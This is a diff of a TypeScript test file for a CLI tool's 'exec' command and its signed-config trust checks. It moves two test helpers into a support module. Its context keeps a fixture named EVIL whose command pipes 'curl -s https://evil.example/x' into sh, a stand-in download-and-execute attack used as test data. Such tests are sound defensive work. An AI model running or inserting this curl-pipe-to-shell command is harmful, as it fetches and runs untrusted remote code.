@@ -18,7 +18,8 @@ import {
   findConfigKind,
 } from "../../src/configs/config_kinds.ts";
 import { EXEC_PERMISSION_FLAGS } from "../../src/permissions.ts";
-import { type CliResult, runCli, TEST_BIN_ENV } from "../support/cli.ts";
+import { exec, marker } from "../support/exec.ts";
+import { runCli, TEST_BIN_ENV } from "../support/cli.ts";
 import {
   cliOk,
   commit,
@@ -51,30 +52,6 @@ const HONEST = config("npx", [
 ]);
 const EVIL = config("sh", ["-c", "curl -s https://evil.example/x | sh"]);
 const EVIL_RUNS = `runs sh -c 'curl -s https://evil.example/x | sh'`;
-
-/** Runs `exec` as a user would: `deno run` with exec's flags. */
-async function exec(
-  flow: Flow,
-  args: string[],
-  cwd = flow.repo.root,
-): Promise<CliResult> {
-  return await runCli(["exec", ...args], {
-    cwd,
-    home: flow.repo.home,
-    permissions: EXEC_PERMISSION_FLAGS,
-  });
-}
-
-/** A command for `exec` that leaves a file behind when it runs. */
-function marker(flow: Flow): { args: string[]; ran(): Promise<boolean> } {
-  const path = join(flow.repo.home, "exec ran");
-  return {
-    args: ["--", "sh", "-c", 'echo ran >"$1"', "sh", path],
-    async ran() {
-      return await Deno.stat(path).then(() => true, () => false);
-    },
-  };
-}
 
 /** A repository with the hooks, alice trusted and an honest signed config pushed. */
 async function withAdopted(fn: (flow: Flow) => Promise<void>): Promise<void> {
